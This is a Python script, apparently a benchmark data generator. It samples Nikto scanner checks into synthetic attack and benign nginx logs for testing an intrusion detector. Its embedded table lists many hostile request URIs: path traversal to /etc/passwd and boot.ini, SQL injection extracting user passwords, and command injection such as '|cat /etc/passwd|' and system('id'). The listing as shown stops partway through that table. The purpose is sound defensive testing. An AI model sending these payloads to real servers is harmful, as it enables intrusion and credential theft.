#!/usr/bin/env python3
# Writes attacks.log, attacks.labels, requests.tsv, benign.log and benign.labels of
# tests/bench/data/thirdparty14 (fixed seed: the output is byte-identical on every run).
# Python 3 standard library only.  Written without reading policies/ or the detector.
#
# Angle of this set: the checks of Nikto's test database, program/databases/db_tests in
# sullo/nikto (GPL).  Only facts are kept from it: each sampled test's id, tuning code,
# HTTP method and URI.  No description text is copied.  One request per attacking source:
# the test's method and URI, with Nikto's variables (@CGIDIRS, @NUKE, @ADMIN, @RFIURL,
# JUNK(n), ...) expanded as Nikto expands them.  POST bodies are not logged by nginx.
#
# The file was read at sullo/nikto@0039e1f53c2f1b5ff0dc92a8d5e077342d30105c (db_tests
# "#VERSION,2.021"), together with program/databases/db_variables and program/nikto.conf
# (RFIURL) at the same commit.
#
#   python3 gen.py             rewrites the five data files next to this script
#   python3 gen.py --check     also checks that no address here appears in any other
#                              set's *.log under tests/bench/data (exit status 1 if one does)
#   python3 gen.py --sample DB_TESTS
#                              re-runs the sampling on a copy of db_tests and prints the
#                              TABLE below (it should print exactly the TABLE in this file)
import datetime, glob, ipaddress, os, random, re, sys, urllib.parse, collections

OUT = os.path.dirname(os.path.abspath(__file__))
SAMPLE_SEED = 20260224            # the sampling of tests
SEED = 2026022414                 # addresses, times, variable values, status codes, benign traffic
DAY = datetime.datetime(2026, 2, 24, 0, 0, 0)
ATTACK_NET = ipaddress.ip_network('100.70.160.0/20')
BENIGN_NET = ipaddress.ip_network('100.70.176.0/20')
COMMIT = '0039e1f53c2f1b5ff0dc92a8d5e077342d30105c'
SOURCE = 'nikto program/databases/db_tests id %s [sullo/nikto@' + COMMIT + ']'

CATNAME = {
    '0': 'file-upload',
    '1': 'interesting-file',
    '2': 'misconfiguration',
    '3': 'information-disclosure',
    '4': 'injection-xss',
    '5': 'remote-file-retrieval-webroot',
    '7': 'remote-file-retrieval',
    '8': 'command-execution',
    '9': 'sql-injection',
    'a': 'authentication-bypass',
    'c': 'remote-source-inclusion',
}

# ----------------------------------------------------------------- Nikto's variables
# program/databases/db_variables at COMMIT (the values, in Nikto's order), and RFIURL from
# program/nikto.conf.  change_variables() in nikto_core.plugin replaces "JUNK(n)" once (its
# first occurrence) with n random letters and digits, then replaces every occurrence of each
# variable by each of its values in turn (one request per value).  Here one value is drawn
# per source with the seeded generator.
VARIABLES = {
    '@CGIDIRS': '/cgi.cgi/ /webcgi/ /cgi-914/ /cgi-915/ /bin/ /cgi/ /mpcgi/ /cgi-bin/ /ows-bin/ /cgi-sys/ '
                '/cgi-local/ /htbin/ /cgibin/ /cgis/ /scripts/ /cgi-win/ /fcgi-bin/ /cgi-exe/ /cgi-home/ '
                '/cgi-perl/ /scgi-bin/',
    '@NUKE': '/ /postnuke/ /postnuke/html/ /modules/ /phpBB/ /forum/',
    '@MUTATEDIRS': '/....../ /members/ /porn/ /restricted/ /xxx/',
    '@MUTATEFILES': 'xxx.htm xxx.html porn.htm porn.html',
    '@ADMIN': '/admin/ /adm/ /administrator/',
    '@USERS': 'adm bin daemon ftp guest listen lp mysql noaccess nobody nobody4 nuucp operator root smmsp '
              'smtp sshd sys test unknown uucp web www',
    '@PASSWORDDIRS': '/ /admin/ /clients/ /pass/ /password/ /passwords/ /store/ /users/ /access/ /members/ '
                     '/private/ /ccbill/ /dmr/ /mastergate/ /dmr/ /epoch/ /netbilling/ /webcash/ /wwwjoin/ '
                     '/etc/security/',
    '@PASSWORDFILES': 'admins clients pass password passwords passwd passwd.adjunct store users .htpasswd .passwd',
    '@PHPMYADMIN': '/3rdparty/phpMyAdmin/ /phpMyAdmin/ /3rdparty/phpmyadmin/ /phpmyadmin/ /pma/',
    '@HTTPFOUND': '200 301 302 403',
    '@FCKEDITOR': '/FCKeditor/ /Script/fckeditor/ /sites/all/modules/fckeditor/fckeditor/ '
                  '/modules/fckeditor/fckeditor/ /class/fckeditor/ /inc/fckeditor/ /sites/all/libraries/fckeditor/',
    '@CRYSTALREPORTS': '/ /CrystalReports/ /crystal/ /businessobjects/ /crystal/enterprise10/ '
                       '/crystal/Enterprise10/ePortfolio/en/',
    '@RFIURL': 'http://cirt.net/rfiinc.txt?',
}
RANDSTR = 'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789'   # LW2::utils_randstr

def expand(uri, r):
    """Nikto's change_variables() for one source: JUNK(n) once, then each variable present"""
    m = re.search(r'JUNK\(([0-9]+)\)', uri)
    if m:
        uri = uri[:m.start()] + ''.join(r.choice(RANDSTR) for _ in range(int(m.group(1)))) + uri[m.end():]
    chosen = {}
    for name in sorted(VARIABLES, key=lambda v: (-len(v), v)):
        if name in uri:
            chosen[name] = r.choice(VARIABLES[name].split(' '))
            uri = uri.replace(name, chosen[name])
    return uri, chosen

# ----------------------------------------------------------------- the sampling (--sample)
# Nikto's own CSV reader (parse_csv in nikto_core.plugin): a quoted field keeps its
# backslashes, and the URI field is never unescaped, so \" in a URI is sent as backslash
# and quote.
CSV_RX = re.compile(r'"([^"\\]*(?:\\.[^"\\]*)*)",?|([^,]+),?|,')

def parse_csv(line):
    out = [m.group(1) if m.group(1) is not None else m.group(2) for m in CSV_RX.finditer(line)]
    if line.endswith(','):
        out.append(None)
    return out

# A test's category: tests whose tuning has 6 (denial of service) or b (software
# identification) are skipped, and so are the 21 generic CGI checks tuned "1234576890ab".
# A test with several codes takes the first of this order (the rarest categories first).
PRIO = '09a578c4321'

def category(tuning):
    if '6' in tuning or 'b' in tuning:
        return None
    for c in PRIO:
        if c in tuning:
            return c
    return None

def vars_ok(uri):
    """an '@' that is not a defined variable (an e-mail address in a query, @POSTNUKE, ...)
    makes Nikto's expander return no URI at all, so such a test sends nothing"""
    s = uri
    for v in sorted(VARIABLES, key=len, reverse=True):
        s = s.replace(v, '')
    return '@' not in s and uri.strip() != '@CGIDIRS'

# Tuning 1, 2 and 3 are kept only when the URI is something no ordinary visitor asks for:
# backup, config, credential, log and database files, admin/installer/debug consoles, known
# CGI scripts and shells, traversal or markup in the URI.  Bare directories ("/fr/", "/home/")
# and pages such as "/", "/index.html.it" or "/readme" are dropped.
SENS = re.compile(r'''(?ix)
 \.(bak|old|orig|save|sav|swp|tmp|temp|backup|copy|dist|inc|cfg|conf|config|ini|log|sql|mdb|db|dbf|dat
    |pwd|passwd|key|pem|csv|xls|nsf|htr|idc|htw|ida|asa|cnf|properties|sh|pl|cgi|exe|dll|bat|cmd|apw|box
    |blt|lck|mdf|ldf|jsp|cfm|nlm)(\W|$)
 | ~(\W|$) | (^|/)\.[a-z_]
 | passw|pwd|secret|credential|shadow
 | admin|install|setup|config|backup|dump|phpinfo|test\.php|info\.php|console|manager|-status|servlet
 | invoker|jmx|shell|cmd|_vti_|iisadm|iissamples|msadc|cgi|webdav|debug|trace\.axd|elmah|phpmyadmin
 | sqlnet|access_log|error_log|web\.config|ws_ftp|orders|billing|database
 | \.\./|%00|etc/passwd|boot\.ini|win\.ini|<|%3c|&lt;|PHPE9568F34|/apc\.php|status\?|/\*|/{5,}
''')

def keep_123(uri):
    if 'JUNK(' in uri:                   # a random file name: a path-disclosure probe any typo resembles
        return False
    return bool(SENS.search(uri.replace('@CGIDIRS', '/cgi-bin/')))

# Tests left out by hand after reading the sample (for every category): ordinary pages.
EXCLUDE = {
    '006732': 'file-upload /repository/: an ordinary directory name',
    '006733': 'file-upload /server/: an ordinary directory name',
    '000696': 'sql-injection /author.asp: an ordinary page name, no payload',
    '000073': 'sql-injection /geeklog/users.php: the ordinary users page of a Geeklog site, no payload',
    '001158': 'command-execution /manual.php: an ordinary page name',
    '003034': 'injection-xss: the request carries no payload (the payload is only in the match field)',
    '001169': 'authentication-bypass /ncl_items.html: an ordinary-looking page',
    '001154': 'authentication-bypass /pp.php?action=login: an ordinary login link',
    '006448': 'command-execution /open.txt: an ordinary file name',
}

def keys(uri, cat):
    """near-duplicate keys: at most one sampled test per script and parameter names, one per
    set of three or more parameter names, two per two-level directory, two per top directory
    in a category, one Lotus Domino .nsf database per category"""
    s = uri
    for v in sorted(VARIABLES, key=len, reverse=True):
        s = s.replace(v, '\x00')
    path, _, q = s.partition('?')
    base = re.sub(r'[0-9]+', 'N', path.replace('\x00', '/').rstrip('/').rsplit('/', 1)[-1].lower())
    names = sorted(set(p.split('=', 1)[0].lower() for p in q.split('&') if '=' in p))
    out = [('script', base + '?' + '&'.join(names), 1)]
    if len(names) >= 3:
        out.append(('params', '&'.join(names), 1))
    segs = [x for x in path.split('/') if x]
    if len(segs) >= 2 and '\x00' not in segs[0]:
        out.append(('top', cat + ':' + segs[0].lower(), 2))
    if len(segs) >= 3 and '\x00' not in segs[0]:
        out.append(('dir', re.sub(r'[0-9]+', 'N', '/'.join(segs[:2]).lower()), 2))
    if path.lower().endswith('.nsf'):
        out.append(('nsf', cat, 1))
    return out

TOTAL = 300
FILL = {'1': 10, '2': 10, '3': 10}       # tuning 1/2/3: the rest after the categories below
ALL_OF = '09'                             # fewer than 40 eligible: all of them (after the caps)
EVEN = '4578ac'                           # the remaining sources split evenly over these

def sample(path):
    rows = []
    with open(path, 'rb') as f:
        for raw in f:
            line = raw.decode('latin-1').rstrip('\r\n')     # bytes kept as they are
            if line.startswith('"'):
                rows.append(parse_csv(line))
    pools = collections.defaultdict(list)
    for row in rows:
        c = category(row[2])
        if c is None or not vars_ok(row[3]) or row[0] in EXCLUDE:
            continue
        if c in '123' and not keep_123(row[3]):
            continue
        pools[c].append(row)
    rnd = random.Random(SAMPLE_SEED)
    used = collections.Counter()

    def take(c, n):
        lst = sorted(pools[c], key=lambda x: x[0])
        rnd.shuffle(lst)
        out = []
        for row in lst:
            if len(out) >= n:
                break
            ks = keys(row[3], c)
            if any(used[k[:2]] >= k[2] for k in ks):
                continue
            for k in ks:
                used[k[:2]] += 1
            out.append(row)
        return out
    sel = {}
    for c in ALL_OF:
        sel[c] = take(c, 10 ** 6)
    for c, n in FILL.items():
        sel[c] = take(c, n)
    rest = TOTAL - sum(len(v) for v in sel.values())
    for i, c in enumerate(EVEN):
        sel[c] = take(c, rest // len(EVEN) + (1 if i < rest % len(EVEN) else 0))
    print('# eligible: ' + ', '.join('%s=%d' % (c, len(pools[c])) for c in sorted(pools)))
    print('TABLE = [')
    for c in PRIO:
        for row in sorted(sel[c], key=lambda x: x[0]):
            body = 'yes' if (row[11] or '').strip() else 'no'
            print('    (%s, %s, %s, %s, %s),' % (ascii(row[0]), ascii(row[2]), ascii(row[4]), ascii(row[3]), ascii(body)))
    print(']')

# ----------------------------------------------------------------- the sampled tests
# (Nikto test id, tuning, method, URI as in db_tests, request body in db_tests)
# Written by "python3 gen.py --sample db_tests" (db_tests at COMMIT).  Non-ASCII bytes are
# kept as \xNN; Nikto sends them raw.
# TABLE-BEGIN
# eligible: 0=27, 1=703, 2=199, 3=570, 4=383, 5=175, 7=177, 8=257, 9=35, a=80, c=2347
TABLE = [
    ('000200', '0', 'GET', '/administrator/gallery/uploadimage.php', 'no'),
    ('000201', '0', 'GET', '/pafiledb/includes/team/file.php', 'no'),
    ('000202', '0', 'GET', '/phpEventCalendar/file_upload.php', 'no'),
    ('000203', '0', 'GET', '/servlet/com.unify.servletexec.UploadServlet', 'no'),
    ('000204', '0', 'GET', '@CGIDIRSuploader.exe', 'no'),
    ('000205', '0', 'GET', '/scripts/cpshost.dll', 'no'),
    ('000206', '0', 'GET', '/scripts/repost.asp', 'no'),
    ('000207', '0', 'GET', '/upload.asp', 'no'),
    ('000208', '0', 'GET', '/uploadn.asp', 'no'),
    ('000209', '0', 'GET', '/uploadx.asp', 'no'),
    ('000210', '0', 'GET', '/wa.exe', 'no'),
    ('001374', '70', 'GET', '/axis-cgi/buffer/command.cgi', 'no'),
    ('001404', '0', 'GET', '@CGIDIRSupload.cgi', 'no'),
    ('001405', '0', 'GET', '/upload.cgi+', 'no'),
    ('003558', '0', 'GET', '@FCKEDITOReditor/filemanager/upload/test.html', 'no'),
    ('003559', '0', 'GET', '@FCKEDITOReditor/dialog/fck_image.html', 'no'),
    ('003561', '0', 'GET', '@FCKEDITOReditor/dialog/fck_flash.html', 'no'),
    ('003562', '0', 'GET', '@FCKEDITOReditor/dialog/fck_link.html', 'no'),
    ('003563', '0', 'GET', '@FCKEDITOReditor/filemanager/browser/default/connectors/asp/connector.asp', 'no'),
    ('006196', '04', 'GET', '/read/attach_file.tml?page=http://cirt.net/', 'no'),
    ('006472', '0', 'GET', '@FCKEDITOReditor/filemanager/browser/default/browser.html', 'no'),
    ('006635', '013', 'GET', '/sites/all/libraries/tinymce/examples/', 'no'),
    ('006673', '0', 'GET', '@FCKEDITOR_whatsnew.html', 'no'),
    ('006712', '20', 'GET', '/desktopmodules/feedbackdesigner/ajaxfbs/frmupload.html', 'no'),
    ('006734', '0', 'GET', '/cqresource/', 'no'),
    ('000683', '9', 'GET', '/admentor/adminadmin.asp', 'no'),
    ('000685', '9', 'GET', '@CGIDIRSclassifieds/index.cgi', 'no'),
    ('000686', '9', 'GET', "/imp/mailbox.php3?actionID=6&server=x&imapuser=x';somesql+--&pass=x", 'no'),
    ('000687', '9', 'GET', '/userinfo.php?uid=1;', 'no'),
    ('000688', '9', 'GET', "/site/' UNION ALL SELECT FileToClob('/etc/passwd','server')::html,0 FROM sysusers WHERE username=USER --/.html", 'no'),
    ('000693', '9', 'GET', '/phpwebsite/index.php?module=calendar&calendar[view]=day&year=2003%00-1&month=', 'no'),
    ('000694', '9', 'GET', '/phpBB2/search.php?search_id=1\\\\', 'no'),
    ('000695', '9', 'GET', '/index.php?module=My_eGallery&do=showpic&pid=-1/**/AND/**/1=2/**/UNION/**/ALL/**/SELECT/**/0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,0,concat(0x3C7230783E,pn_uname,0x3a,pn_pass,0x3C7230783E),0,0,0/**/FROM/**/md_users/**/WHERE/**/pn_uid=$id/*', 'no'),
    ('001110', '9', 'GET', '/agentadmin.php', 'no'),
    ('001389', '89', 'GET', '/viewtopic.php?t=2&rush=%64%69%72&highlight=%2527.%70%61%73%73%74%68%72%75%28%24%48%54%54%50%5f%47%45%54%5f%56%41%52%53%5b%72%75%73%68%5d%29.%2527', 'no'),
    ('001394', '89', 'GET', '/index.php?name=Forums&file=viewtopic&t=2&rush=%6c%73%20%2d%61%6c&highlight=%2527.%70%61%73%73%74%68%72%75%28%24%48%54%54%50%5f%47%45%54%5f%56%41%52%53%5b%72%75%73%68%5d%29.%2527', 'no'),
    ('001450', '9', 'GET', "/shopexd.asp?catalogid='42", 'no'),
    ('001451', '9', 'GET', '/shopping/diag_dbtest.asp', 'no'),
    ('001509', '9', 'GET', '/reademail.pl', 'no'),
    ('001512', '9', 'GET', '/index.php?showforum=1&prune_day=100&sort_by=Z-A&sort_key=[sqlgoeshere]', 'no'),
    ('001513', '9', 'GET', '/index.php?offset=[%20Problem%20Here%20]', 'no'),
    ('003166', '9', 'GET', '/utils/sprc.asp', 'no'),
    ('003499', '9', 'GET', "/db.php?q='&t='", 'no'),
    ('003500', '9', 'GET', "/rpc.php?q='&t='", 'no'),
    ('006480', '9', 'POST', '/search.php', 'yes'),
    ('006481', '9', 'POST', '/private.php', 'yes'),
    ('000075', 'a', 'GET', '/guestbook/admin.php', 'no'),
    ('000122', '2a', 'GET', '/scripts/iisadmin/ism.dll', 'no'),
    ('000147', 'a', 'GET', '/SiteServer/Admin/knowledge/dsmgr/users/GroupManager.asp', 'no'),
    ('000185', 'a', 'GET', '/exchange/root.asp?acs=anon', 'no'),
    ('000186', 'a', 'GET', '/officescan/cgi/cgiChkMasterPwd.exe', 'no'),
    ('000355', 'a', 'GET', '/vgn/legacy/save', 'no'),
    ('001007', '3a', 'GET', '/chassis/config/GeneralChassisConfig.html', 'no'),
    ('001080', 'ae', 'GET', '@CGIDIRSsws/admin.html', 'no'),
    ('001082', 'ae', 'GET', '/admin.php?en_log_id=0&action=config', 'no'),
    ('001084', 'ae', 'GET', '/admin.php4?reg_login=1', 'no'),
    ('001085', 'ae', 'GET', '/admin/admin_phpinfo.php4', 'no'),
    ('001088', 'a', 'GET', "/interscan/cgi-bin/FtpSave.dll?I'm%20Here", 'no'),
    ('001089', '7a', 'GET', '/ext.ini.%00.txt', 'no'),
    ('001090', '8a', 'GET', '@CGIDIRSwebdriver', 'no'),
    ('001118', '2a', 'GET', '/SiteScope/cgi/go.exe/SiteScope?page=eventLog&machine=&logName=System&account=administrator', 'no'),
    ('001170', 'a', 'GET', '/ncl_items.shtml?SUBJECT=1', 'no'),
    ('001172', 'a', 'GET', '/photodata/manage.cgi', 'no'),
    ('001174', 'a', 'GET', '/pub/english.cgi?op=rmail', 'no'),
    ('001175', 'a', 'GET', '/pvote/ch_info.php?newpass=password&confirm=password%20', 'no'),
    ('001176', 'a', 'GET', '/scripts/wsisa.dll/WService=anything?WSMadmin', 'no'),
    ('001177', 'a', 'GET', '/SetSecurity.shm', 'no'),
    ('001178', 'a', 'GET', '/submit?setoption=q&option=allowed_ips&value=255.255.255.255', 'no'),
    ('001179', 'a', 'GET', '/thebox/admin.php?act=write&username=admin&password=admin&aduser=admin&adpass=admin', 'no'),
    ('001194', 'a', 'POST', '/_vti_bin/_vti_aut/author.exe?method=list+documents%3a3%2e0%2e2%2e1706&service%5fname=&listHiddenDocs=true&listExplorerDocs=true&listRecurse=false&listFiles=true&listFolders=true&listLinkInfo=true&listIncludeParent=true&listDerivedT=false&listBorders=fals', 'no'),
    ('001195', 'ad', 'GET', '/_vti_bin/_vti_aut/dvwssr.dll', 'no'),
    ('001221', 'a', 'GET', '/cgis/wwwboard/wwwboard.cgi', 'no'),
    ('001222', 'a', 'GET', '/cgis/wwwboard/wwwboard.pl', 'no'),
    ('001498', 'a', 'GET', '@CGIDIRSgbadmin.cgi?action=change_adminpass', 'no'),
    ('001502', 'a', 'GET', '@CGIDIRSgbpass.pl', 'no'),
    ('001507', 'a', 'GET', '/c32web.exe/ChangeAdminPassword', 'no'),
    ('002317', '3a', 'GET', '/CSNews.cgi?command=viewnews&database=none', 'no'),
    ('003271', 'a', 'GET', '/soap/servlet/soaprouter', 'no'),
    ('003332', 'a', 'GET', '/_layouts/settings.htm', 'no'),
    ('003333', 'a', 'GET', '/_layouts/userinfo.htm', 'no'),
    ('003386', 'a', 'GET', '/admin/admin.php?adminpy=1', 'no'),
    ('003456', '1a', 'GET', '/pls/portal/owa_util.cellsprint?p_theQuery=select+*+from+sys.dba_users', 'no'),
    ('003466', '1a', 'GET', '/pls/portal/PORTAL.wwv_setting.render_css', 'no'),
    ('000180', '5', 'GET', '/ows/restricted%2eshow', 'no'),
    ('000508', '5', 'GET', '/[SecCheck]/..%252f..%252f../ext.ini', 'no'),
    ('000513', '5', 'GET', '/query.idq?CiTemplate=../../../../../../../../../../winnt/win.ini', 'no'),
    ('000519', '5', 'GET', '/cfdocs/exampleapp/email/getfile.cfm?filename=c:\\boot.ini', 'no'),
    ('000524', '5', 'GET', '/php/php.exe?c:\\winnt\\boot.ini', 'no'),
    ('000541', '5', 'GET', '/../../../../winnt/repair/sam._', 'no'),
    ('000542', '5', 'GET', '/..\\\\..\\\\..\\\\..\\\\..\\\\..\\\\..\\\\boot.ini', 'no'),
    ('000549', '5', 'GET', '/atomicboard/index.php?location=../../../../../../../../../../etc/passwd', 'no'),
    ('000550', '5', 'GET', '/current/modules.php?mod=fm&file=../../../../../../../../../../etc/passwd%00&bn=fm_d1', 'no'),
    ('000561', '5', 'GET', '/index.php?page=../../../../../../../../../../boot.ini', 'no'),
    ('000568', '5', 'GET', '/phprocketaddin/?page=../../../../../../../../../../boot.ini', 'no'),
    ('000572', '5', 'GET', '/put/cgi-bin/putport.exe?SWAP&BOM&OP=none&Lang=en-US&PutHtml=../../../../../../../../etc/passwd', 'no'),
    ('000573', '5', 'GET', '/ROADS/cgi-bin/search.pl?form=../../../../../../../../../../etc/passwd%00', 'no'),
    ('000580', '5', 'GET', '@CGIDIRS14all.cgi?cfg=../../../../../../../../etc/passwd', 'no'),
    ('000583', '5', 'GET', '@CGIDIRSauktion.cgi?menue=../../../../../../../../../../etc/passwd', 'no'),
    ('000589', '5', 'GET', '@CGIDIRScommerce.cgi?page=../../../../../../../../../../etc/passwd%00index.html', 'no'),
    ('000591', '5', 'GET', '@CGIDIRScal_make.pl?p0=../../../../../../../../../../etc/passwd%00', 'no'),
    ('000593', '5', 'GET', '@CGIDIRSdirectorypro.cgi?want=showcat&show=../../../../../../../../../../etc/passwd%00', 'no'),
    ('000597', '5', 'GET', '@CGIDIRSfaxsurvey?cat%20/etc/passwd', 'no'),
    ('000604', '5', 'GET', '@CGIDIRSgenerate.cgi?content=../../../../../../../../../../etc/passwd%00board=board_1', 'no'),
    ('000613', '5', 'GET', '@CGIDIRSmail/nph-mr.cgi?do=loginhelp&configLanguage=../../../../../../../etc/passwd%00', 'no'),
    ('000614', '5', 'GET', '@CGIDIRSmail/emumail.cgi?type=/../../../../../../../../../../../../../../../../etc/passwd%00', 'no'),
    ('000615', '5', 'GET', '@CGIDIRSloadpage.cgi?user_id=1&file=..\\\\..\\\\..\\\\..\\\\..\\\\..\\\\..\\\\..\\\\winnt\\\\win.ini', 'no'),
    ('000620', '5', 'GET', '@CGIDIRSsearch/search.cgi?keys=*&prc=any&catigory=../../../../../../../../../../../../etc', 'no'),
    ('000625', '5', 'GET', '@CGIDIRSpublisher/search.cgi?dir=jobs&template=;cat%20/etc/passwd|&output_number=10', 'no'),
    ('000626', '5', 'GET', '@CGIDIRSphp.cgi?/etc/passwd', 'no'),
    ('000637', '5', 'GET', '@CGIDIRSviewsource?/etc/passwd', 'no'),
    ('000638', '5', 'GET', '@CGIDIRSttawebtop.cgi/?action=start&pg=../../../../../../../../../../etc/passwd', 'no'),
    ('000641', '5', 'GET', '@CGIDIRStalkback.cgi?article=../../../../../../../../etc/passwd%00&action=view&matchview=1', 'no'),
    ('000642', '5', 'GET', '@CGIDIRSstory/story.pl?next=../../../../../../../../../../etc/passwd%00', 'no'),
    ('000646', '5', 'GET', '@CGIDIRSssi//%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd', 'no'),
    ('000648', '5', 'GET', '@CGIDIRSsimple/view_page?mv_arg=|cat%20/etc/passwd|', 'no'),
    ('000649', '5', 'GET', '@CGIDIRSshopper.cgi?newpage=../../../../../../../../../../etc/passwd', 'no'),
    ('000651', '5', 'GET', '/webcalendar/forum.php?user_inc=../../../../../../../../../../etc/passwd', 'no'),
    ('000656', '5', 'GET', '/base/webmail/readmsg.php?mailbox=../../../../../../../../../../../../../../etc/passwd&id=1', 'no'),
    ('000660', '5', 'GET', '@CGIDIRSYaBB.pl?board=news&action=display&num=../../../../../../../../../../etc/passwd%00', 'no'),
    ('000669', '5', 'GET', '/search?NS-query-pat=../../../../../../../../../../etc/passwd', 'no'),
    ('001491', '5', 'GET', '/../config.dat', 'no'),
    ('000063', '7', 'GET', '@CGIDIRSpollit/Poll_It_SSI_v2.0.cgi?data_dir=\\etc\\passwd%00', 'no'),
    ('000100', '7', 'GET', '@CGIDIRSbannereditor.cgi', 'no'),
    ('000677', '7', 'GET', '/%2E%2E/%2E%2E/%2E%2E/%2E%2E/%2E%2E/windows/win.ini', 'no'),
    ('000680', '7', 'GET', '/ca//\\\\../\\\\../\\\\../\\\\../\\\\../\\\\../\\\\windows/\\\\win.ini', 'no'),
    ('000681', '7', 'GET', '/ca/..\\\\..\\\\..\\\\..\\\\..\\\\..\\\\/\\\\etc/\\\\passwd', 'no'),
    ('001004', '37', 'GET', '@CGIDIRSview-source?view-source', 'no'),
    ('001016', '7', 'GET', '@CGIDIRSMsmMask.exe?mask=/junk334', 'no'),
    ('001247', '7', 'GET', '/scripts/samples/search/qsumrhit.htw', 'no'),
    ('001362', '7', 'GET', '/index.php?module=ew_filemanager&type=admin&func=manager&pathext=../../../etc', 'no'),
    ('001415', '7', 'GET', '@CGIDIRSpfdispaly.cgi?../../../../../../../../../../etc/passwd', 'no'),
    ('001475', '7', 'GET', '../../../../../../../../../../etc/*', 'no'),
    ('003059', '7', 'GET', '/mylog.html?screen=/etc/passwd', 'no'),
    ('003062', '7', 'GET', '/php/mlog.phtml', 'no'),
    ('003070', '7', 'GET', '/directory.php?dir=%3Bcat%20/etc/passwd', 'no'),
    ('003074', '7', 'GET', '@CGIDIRSbbcode_ref.php?user=MToxOjE6MToxOjE6MToxOjE6Li4vLi4vLi4vLi4vLi4vZXRjL3Bhc3N3ZAAK', 'no'),
    ('003095', '7', 'GET', '@CGIDIRSvote.cgi', 'no'),
    ('003100', '7', 'GET', '/shop/normal_html.cgi?file=|cat%20/etc/passwd|', 'no'),
    ('003102', '7', 'GET', '/shop/member_html.cgi?file=|cat%20/etc/passwd|', 'no'),
    ('003113', '7', 'GET', '@CGIDIRSFileSeek.cgi?head=....//....//....//....//....//....//....//etc/passwd&foot=', 'no'),
    ('003114', '7', 'GET', '@CGIDIRSFileSeek2.cgi?head=&foot=....//....//....//....//....//....//....//etc/passwd', 'no'),
    ('003132', '7', 'GET', '@CGIDIRSdcforum.cgi?az=list&forum=../../../../../../../../../../etc/passwd%00', 'no'),
    ('003154', '7', 'GET', '/viewimg.php?path=../../../../../../../../../../etc/passwd&form=1&var=1', 'no'),
    ('003179', '7', 'GET', '/.../.../.../', 'no'),
    ('003184', '7', 'GET', '@CGIDIRSapexec.pl?etype=odp&template=../../../../../../../../../../etc/passwd%00.html&passurl=/category/', 'no'),
    ('003189', '7', 'GET', '@CGIDIRSsensepost.exe?/c+dir', 'no'),
    ('003206', '7', 'GET', '/Sites/Samples/Knowledge/Push/ViewCode.asp', 'no'),
    ('003209', '37', 'GET', '/siteserver/publishing/viewcode.asp?source=/default.asp', 'no'),
    ('003210', '7', 'GET', '/shoutbox.php?conf=../../../../../../../etc/passwd', 'no'),
    ('003273', '7', 'GET', '/opendir.php?requesturl=/etc/passwd', 'no'),
    ('003292', '7', 'GET', '@CGIDIRSa1stats/a1disp3.cgi?../../../../../../../etc/passwd', 'no'),
    ('003319', '7', 'GET', '@CGIDIRSview_item?HTML_FILE=../../../../../../../../../../etc/passwd%00', 'no'),
    ('003345', '7', 'GET', '/gallery/index.php?include=../../../../../../../../../etc/passwd', 'no'),
    ('003354', '7', 'GET', '/msadc/Samples/selector/showcode.asp?source=/msadc/Samples/../../../../../../../../../winnt/win.ini', 'no'),
    ('003359', '7', 'GET', '/pls/sample/admin_/help/..%255cplsql.conf', 'no'),
    ('003362', '7', 'GET', '/..%252f..%252f..%252f..%252f..%252f../winnt/repair/sam', 'no'),
    ('003382', '7', 'GET', '/error/%5c%2e%2e%5c%2e%2e%5c%2e%2e%5c%2e%2e%5cwinnt%5cwin.ini', 'no'),
    ('006486', '7', 'GET', '/axis2/services/Version?xsd=../../../../../../../../../../../etc/passwd', 'no'),
    ('000067', '8', 'GET', '@CGIDIRSguestbook.cgi', 'no'),
    ('000070', '8', 'GET', '/forumdisplay.php?GLOBALS[]=1&f=2&comma=\\".system(\'id\').\\"', 'no'),
    ('000492', '8', 'GET', '@CGIDIRSsnorkerz.bat', 'no'),
    ('000493', '8', 'GET', '@CGIDIRSsnorkerz.cmd', 'no'),
    ('000496', '8', 'GET', '/msadc/samples/adctest.asp', 'no'),
    ('000667', '8', 'GET', '/athenareg.php?pass=%20;cat%20/etc/passwd', 'no'),
    ('000692', '8', 'GET', '@CGIDIRSalibaba.pl|dir%20..\\\\..\\\\..\\\\..\\\\..\\\\..\\\\..\\\\,', 'no'),
    ('001030', '8', 'GET', '@CGIDIRScalendar/calendar_admin.pl?config=|cat%20/etc/passwd|', 'no'),
    ('001031', '8', 'GET', '@CGIDIRScampas?%0acat%0a/etc/passwd%0a', 'no'),
    ('001035', '8', 'GET', '@CGIDIRSCount.cgi', 'no'),
    ('001039', '8', 'GET', "@CGIDIRScsNewsPro.cgi?command=savesetup&setup=;system('cat%20/etc/passwd')", 'no'),
    ('001043', '8', 'GET', "@CGIDIRSinfo2www '(../../../../../../../bin/mail root </etc/passwd>", 'no'),
    ('001047', '8', 'GET', '@CGIDIRSmailnews.cgi', 'no'),
    ('001051', '8', 'GET', '@CGIDIRSperl.exe?-v', 'no'),
    ('001053', '8', 'GET', '@CGIDIRSperl', 'no'),
    ('001056', '8', 'GET', '@CGIDIRSsmartsearch.cgi?keywords=|/bin/cat%20/etc/passwd|', 'no'),
    ('001063', '8', 'GET', '@CGIDIRSwebgais', 'no'),
    ('001067', '8', 'GET', '/cd-cgi/sscd_suncourier.pl', 'no'),
    ('001068', '8', 'GET', '@CGIDIRScommon/listrec.pl', 'no'),
    ('001073', '8', 'GET', '/ews/ews/architext_query.pl', 'no'),
    ('001163', '8', 'GET', '/phpnuke/html/.php?name=Network_Tools&file=index&func=ping_host&hinput=%3Bid', 'no'),
    ('001166', '8', 'GET', '/smssend.php', 'no'),
    ('001253', '8', 'GET', '/level/16/exec/-///pwd', 'no'),
    ('001316', '8', 'GET', '/level/69/exec//show', 'no'),
    ('001376', '8', 'GET', '@CGIDIRSwhere.pl?sd=ls%20/etc', 'no'),
    ('001411', '8', 'GET', '@CGIDIRSnph-publish.cgi', 'no'),
    ('001471', '8', 'GET', '@CGIDIRSinclude/new-visitor.inc.php', 'no'),
    ('001474', '8', 'GET', '/msadc/msadcs.dll', 'no'),
    ('003018', '8', 'GET', '/uploader.php', 'no'),
    ('003041', '8', 'GET', "/htforumcalendar.php?calbirthdays=1&action=getday&day=2001-8-15&comma=%22;echo%20'';%20echo%20%60id%20%60;die();echo%22", 'no'),
    ('003218', '8', 'GET', '/admin/exec.php3?cmd=cat%20/etc/passwd', 'no'),
    ('003263', '8', 'GET', '/isapi/tstisapi.dll', 'no'),
